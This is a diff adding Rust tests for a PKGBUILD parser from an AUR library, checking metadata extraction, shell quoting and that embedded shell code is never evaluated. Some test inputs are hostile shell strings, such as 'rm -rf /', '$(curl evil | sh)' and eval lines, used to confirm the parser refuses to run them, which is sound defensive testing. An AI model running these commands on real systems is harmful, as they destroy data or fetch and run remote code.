@@ -0,0 +1,216 @@
+extern crate aur;
+
+use aur::pkgbuild::{Issue, IssueKind, Pkgbuild, Value};
+
+fn libfoo() -> Pkgbuild {
+    Pkgbuild::parse(include_str!("fixtures/pkgbuild/libfoo.PKGBUILD"))
+}
+
+#[test]
+fn test_metadata() {
+    let pkgbuild = libfoo();
+
+    assert_eq!(pkgbuild.pkgbase(), Some("libfoo"));
+    assert_eq!(pkgbuild.pkgnames(), vec!["libfoo", "python-libfoo"]);
+    assert_eq!(pkgbuild.pkgver(), Some("2.1.0"));
+    assert_eq!(pkgbuild.pkgrel(), Some("3"));
+    assert_eq!(pkgbuild.epoch(), Some("1"));
+    assert_eq!(pkgbuild.scalar("pkgdesc"), Some("A library for \"foo\""));
+    assert_eq!(pkgbuild.arch(), vec!["x86_64", "aarch64"]);
+    assert_eq!(pkgbuild.depends(), vec!["glibc", "zlib"]);
+    assert_eq!(pkgbuild.array("depends_x86_64"), vec!["lib32-glibc"]);
+    assert_eq!(pkgbuild.make_depends(), vec!["cmake", "python", "ninja"]);
+    assert_eq!(pkgbuild.array("options"), vec!["!lto", "docs", "tests"]);
+    assert_eq!(pkgbuild.array("source_x86_64"), vec![
+        "blob-x86_64-2.1.0.bin::https://example.org/blob/2.1.0/x86_64",
+    ]);
+    assert_eq!(pkgbuild.checksums("sha256").len(), 3);
+    assert_eq!(pkgbuild.checksums("sha256")[1], "SKIP");
+    assert_eq!(pkgbuild.variable("url"), Some(&Value::Scalar("https://example.org/libfoo".to_owned())));
+}
+
+#[test]
+fn test_issues() {
+    let pkgbuild = libfoo();
+
+    // Brace expansion is not performed, and the unevaluated assignments are
+    // not recorded.
+    assert_eq!(pkgbuild.source(), vec![
+        "https://example.org/foo-2.1.0.tar.xz{,.sig}",
+        "libfoo.install",
+    ]);
+    assert_eq!(pkgbuild.variable("_date"), None);
+    assert_eq!(pkgbuild.variable("_major"), None);
+    assert_eq!(pkgbuild.array("noextract").len(), 2);
+
+    let issue = |line, kind| Issue { kind, line };
+
+    assert_eq!(pkgbuild.issues, vec![
+        issue(28, IssueKind::CommandSubstitution),
+        issue(29, IssueKind::UnsupportedExpansion("${pkgver%%.*}".to_owned())),
+        issue(32, IssueKind::Statement("if".to_owned())),
+        issue(36, IssueKind::Function("build".to_owned())),
+        issue(42, IssueKind::Function("package_libfoo".to_owned())),
+        issue(47, IssueKind::Function("package_python-libfoo".to_owned())),
+    ]);
+}
+
+#[test]
+fn test_quoting_and_expansion() {
+    let pkgbuild = Pkgbuild::parse(r#"
+single='$literal "quoted"'
+double="a\$b\"c\\d\e"
+escaped=a\ b
+concat=one"two"'three'
+continued="first \
+second"
+_arr=(a 'b c')
+all=(x "${_arr[@]}" y)
+split=($single)
+joined=${_arr[@]}
+first=$_arr
+indexed=${_arr[1]}
+empty=
+missing=(${undefined[@]})
+"#);
+
+    assert_eq!(pkgbuild.scalar("single"), Some("$literal \"quoted\""));
+    assert_eq!(pkgbuild.scalar("double"), Some("a$b\"c\\d\\e"));
+    assert_eq!(pkgbuild.scalar("escaped"), Some("a b"));
+    assert_eq!(pkgbuild.scalar("concat"), Some("onetwothree"));
+    assert_eq!(pkgbuild.scalar("continued"), Some("first second"));
+    assert_eq!(pkgbuild.array("all"), vec!["x", "a", "b c", "y"]);
+    assert_eq!(pkgbuild.array("split"), vec!["$literal", "\"quoted\""]);
+    assert_eq!(pkgbuild.scalar("joined"), Some("a b c"));
+    assert_eq!(pkgbuild.scalar("first"), Some("a"));
+    assert_eq!(pkgbuild.scalar("indexed"), Some("b c"));
+    assert_eq!(pkgbuild.scalar("empty"), Some(""));
+    assert_eq!(pkgbuild.variable("missing"), Some(&Value::Array(vec![])));
+    assert_eq!(pkgbuild.issues, vec![Issue {
+        kind: IssueKind::UndefinedVariable("undefined".to_owned()),
+        line: 15,
+    }]);
+}
+
+#[test]
+fn test_append() {
+    let pkgbuild = Pkgbuild::parse("a=1\na+=2\nb=(x)\nb+=(y z)\nc=s\nc+=(t)\n");
+
+    assert_eq!(pkgbuild.scalar("a"), Some("12"));
+    assert_eq!(pkgbuild.array("b"), vec!["x", "y", "z"]);
+    assert_eq!(pkgbuild.array("c"), vec!["s", "t"]);
+}
+
+#[test]
+fn test_never_evaluates() {
+    let pkgbuild = Pkgbuild::parse("pkgver=`touch /tmp/owned`\nrm -rf / ; pkgrel=1\neval \"$x\"\n");
+
+    assert_eq!(pkgbuild.pkgver(), None);
+    assert_eq!(pkgbuild.pkgrel(), Some("1"));
+    assert_eq!(pkgbuild.issues.iter().map(|issue| issue.to_string()).collect::<Vec<_>>(), vec![
+        "line 1: command substitution not evaluated",
+        "line 2: statement rm not evaluated",
+        "line 3: statement eval not evaluated",
+    ]);
+}
+
+#[test]
+fn test_quoted_and_substituted_statements() {
+    let issue = |line, kind| Issue { kind, line };
+
+    // The substitution is the whole second word, which must not swallow the
+    // newline ending the statement.
+    let pkgbuild = Pkgbuild::parse("eval \"$(echo pkgver=9)\"\npkgver=1\n");
+
+    assert_eq!(pkgbuild.pkgver(), Some("1"));
+    assert_eq!(pkgbuild.issues, vec![
+        issue(1, IssueKind::CommandSubstitution),
+        issue(1, IssueKind::Statement("eval".to_owned())),
+    ]);
+
+    let pkgbuild = Pkgbuild::parse("$(curl evil | sh)\npkgrel=2\n");
+
+    assert_eq!(pkgbuild.pkgrel(), Some("2"));
+    assert_eq!(pkgbuild.issues, vec![
+        issue(1, IssueKind::CommandSubstitution),
+        issue(1, IssueKind::Statement("$(curl evil | sh)".to_owned())),
+    ]);
+
+    let pkgbuild = Pkgbuild::parse("\"$(id)\"\npkgrel=1\n\n_date=`date`\n");
+
+    assert_eq!(pkgbuild.pkgrel(), Some("1"));
+    assert_eq!(pkgbuild.issues, vec![
+        issue(1, IssueKind::CommandSubstitution),
+        issue(1, IssueKind::Statement("\"$(id)\"".to_owned())),
+        issue(4, IssueKind::CommandSubstitution),
+    ]);
+}
+
+#[test]
+fn test_operators_in_arrays() {
+    for &(text, operator) in &[
+        ("depends=('a' | 'b')\npkgrel=1\n", "|"),
+        ("depends=('a' & 'b')\npkgrel=1\n", "&"),
+        ("depends=('a' < 'b')\npkgrel=1\n", "<"),
+        ("depends=('a' > 'b')\npkgrel=1\n", ">"),
+        ("depends=('a' ('b') 'c')\npkgrel=1\n", "("),
+        ("depends=(a||b&&c)\npkgrel=1\n", "|"),
+    ] {
+        let pkgbuild = Pkgbuild::parse(text);
+
+        assert_eq!(pkgbuild.variable("depends"), None, "{}", text);
+        assert_eq!(pkgbuild.pkgrel(), Some("1"), "{}", text);
+        assert_eq!(pkgbuild.issues, vec![Issue {
+            kind: IssueKind::Syntax(operator.to_owned()),
+            line: 1,
+        }], "{}", text);
+    }
+}
+
+#[test]
+fn test_all_elements_and_nested_expansions() {
+    let pkgbuild = Pkgbuild::parse(r#"
+_arr=(a 'b c')
+star=(x "${_arr[*]}" y)
+unquoted=(${_arr[*]})
+nested=${a:-${b}}
+after=1
+"#);
+
+    assert_eq!(pkgbuild.array("star"), vec!["x", "a b c", "y"]);
+    assert_eq!(pkgbuild.array("unquoted"), vec!["a", "b", "c"]);
+    assert_eq!(pkgbuild.variable("nested"), None);
+    assert_eq!(pkgbuild.scalar("after"), Some("1"));
+    assert_eq!(pkgbuild.issues, vec![Issue {
+        kind: IssueKind::UnsupportedExpansion("${a:-${b}}".to_owned()),
+        line: 5,
+    }]);
+}
+
+#[test]
+fn test_prefix_assignments() {
+    let pkgbuild = Pkgbuild::parse("CFLAGS=-O2 make\npkgver=1 pkgrel=2\nurl=x 2>/dev/null\n_a=1 _b=$_a cmd\n");
+
+    assert_eq!(pkgbuild.variable("CFLAGS"), None);
+    assert_eq!(pkgbuild.pkgver(), Some("1"));
+    assert_eq!(pkgbuild.pkgrel(), Some("2"));
+    assert_eq!(pkgbuild.scalar("url"), Some("x"));
+    assert_eq!(pkgbuild.variable("_a"), None);
+    assert_eq!(pkgbuild.variable("_b"), None);
+    assert_eq!(pkgbuild.issues.iter().map(|issue| issue.to_string()).collect::<Vec<_>>(), vec![
+        "line 1: statement make not evaluated",
+        "line 4: statement cmd not evaluated",
+    ]);
+}
+
+#[test]
+fn test_unterminated() {
+    let pkgbuild = Pkgbuild::parse("pkgname=foo\ndepends=('a'\n 'b'\n");
+
+    assert_eq!(pkgbuild.pkgnames(), vec!["foo"]);
+    assert_eq!(pkgbuild.variable("depends"), None);
+    assert_eq!(pkgbuild.issues, vec![Issue {
+        kind: IssueKind::Unterminated,
+        line: 2,
+    }]);
+}